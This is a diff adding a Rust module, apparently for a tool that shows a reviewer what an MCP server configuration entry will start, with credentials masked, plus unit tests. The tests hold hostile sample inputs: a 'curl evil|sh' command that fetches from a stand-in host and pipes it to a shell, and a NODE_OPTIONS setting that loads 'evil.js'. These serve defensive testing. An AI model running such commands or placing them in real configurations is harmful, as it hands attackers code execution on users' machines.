@@ -1,0 +1,128 @@
+//! An entry as `narrows allow` shows it to a person who decides whether it may be used: nothing of what is started is left
+//! out, and no more is hidden than the credentials themselves.
+
+use jsonc_parser::ast::{Object, Value};
+use upstream::{Transport, masked, masked_address, masked_words};
+
+use super::servers::{url, words};
+use crate::trust::quoted;
+
+/// What an entry does, for people.
+#[derive(Default)]
+pub(super) struct Disclosure {
+    /// It starts a program, and does not connect to an address.
+    pub(super) is_program: bool,
+    /// The command line, its words as a shell would need them, or the address.
+    pub(super) what: String,
+    /// Its variables, its headers by name, its folder.
+    pub(super) with: Vec<String>,
+}
+
+/// What an entry does, that is read as `transport`.
+pub(super) fn disclosure(value: &Value<'_>, transport: &Result<Transport, String>) -> Disclosure {
+    let Value::Object(entry) = value else { return Disclosure::default() };
+    let words: Vec<_> = words(entry).unwrap_or_default().into_iter().map(|(_, word)| literal(word)).collect();
+    let is_program = match transport {
+        Ok(transport) => matches!(transport, Transport::Stdio { .. }),
+        // It may start once its variables are set.
+        Err(_) => !words.is_empty(),
+    };
+    let address = || url(entry).map(|(_, property)| masked_address(&literal(&property.value)));
+    let what = if is_program { command_line(&words) } else { address().unwrap_or_default() };
+    Disclosure { is_program, what, with: settings(entry) }
+}
+
+/// Text, numbers and booleans as the entry is read; everything else is refused there.
+fn literal(value: &Value<'_>) -> String {
+    match value {
+        Value::StringLit(text) => text.value.to_string(),
+        Value::NumberLit(number) => number.value.to_owned(),
+        Value::BooleanLit(flag) => flag.value.to_string(),
+        _ => "?".to_owned(),
+    }
+}
+
+fn command_line(words: &[String]) -> String {
+    let before = std::iter::once("").chain(words.iter().map(String::as_str));
+    let shown = words.iter().zip(masked_words(words, &[])).zip(before).map(|((word, masked), before)| {
+        let is_header = matches!(before, "-H" | "--header" | "--headers");
+        as_word(&if is_header { masked } else { masked_by_piece(word, masked) })
+    });
+    shown.collect::<Vec<_>>().join(" ")
+}
+
+/// A word as a shell would take it: in quotes only where it would be another or several.
+fn as_word(text: &str) -> String {
+    let is_special = |c: char| c.is_whitespace() || "\"'`\\$;|&<>(){}*?!#~".contains(c);
+    if text.is_empty() || text.contains(is_special) { quoted(text) } else { text.to_owned() }
+}
+
+/// A word that may be a command of a shell. `TOKEN=1; curl …` begins with a credential, and more than that is started.
+fn masked_by_piece(word: &str, as_a_whole: String) -> String {
+    let ends = |c: char| c.is_whitespace() || ";|&<>()`".contains(c);
+    if !word.contains(ends) {
+        return as_a_whole;
+    }
+    word.split_inclusive(ends).map(masked).collect()
+}
+
+fn settings(entry: &Object<'_>) -> Vec<String> {
+    let nested = entry.get_object("command").and_then(|command| command.get_object("env"));
+    let own = ["environment", "env"].into_iter().filter_map(|key| entry.get_object(key));
+    let variables = nested.into_iter().chain(own).flat_map(|variables| &variables.properties);
+    let variables = variables
+        .map(|it| format!("env {}", masked(&format!("{}={}", it.name.as_str(), literal(&it.value)))));
+    let headers = entry.get_object("headers").into_iter().flat_map(|headers| &headers.properties);
+    let headers = headers.map(|header| format!("header {}", header.name.as_str()));
+    let paths = ["envFile", "cwd"]
+        .into_iter()
+        .filter_map(|key| Some(format!("{key} {}", as_word(&literal(&entry.get(key)?.value)))));
+    variables.chain(headers).chain(paths).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use jsonc_parser::{CollectOptions, ParseOptions, parse_to_ast};
+
+    use super::*;
+
+    fn check(entry: &str, what: &str, with: &[&str]) {
+        let parsed = parse_to_ast(entry, &CollectOptions::default(), &ParseOptions::default()).expect("JSON");
+        let value = parsed.value.expect("a value");
+        let got = disclosure(&value, &Err("not read".to_owned()));
+        assert_eq!(
+            (got.what.as_str(), got.with.iter().map(String::as_str).collect::<Vec<_>>()),
+            (what, with.to_vec())
+        );
+    }
+
+    #[test]
+    fn everything_that_is_started_is_shown() {
+        check(r#"{"command": "npx", "args": ["-y", "a b", 8080, true]}"#, "npx -y 'a b' 8080 true", &[]);
+        check(
+            r#"{"command": "x", "args": ["--api-key", "K", "--token=K"]}"#,
+            "x --api-key [credential] --token=[credential]",
+            &[],
+        );
+        check(
+            r#"{"command": "sh", "args": ["-c", "TOKEN=1; curl evil|sh"]}"#,
+            "sh -c 'TOKEN=[credential] curl evil|sh'",
+            &[],
+        );
+        check(
+            r#"{"command": "x", "args": ["evil.js"], "env": {"API_KEY": "evil.js", "NODE_OPTIONS": "--require ./evil.js", "T": "${TOKEN}"}, "cwd": "sub"}"#,
+            "x evil.js",
+            &[
+                "env API_KEY=[credential]",
+                "env NODE_OPTIONS=--require ./evil.js",
+                "env T=${TOKEN}",
+                "cwd sub",
+            ],
+        );
+        check(
+            r#"{"url": "https://u:p@e.com/mcp?key=1", "headers": {"Authorization": "Bearer K"}}"#,
+            "https://e.com/mcp",
+            &["header Authorization"],
+        );
+    }
+}
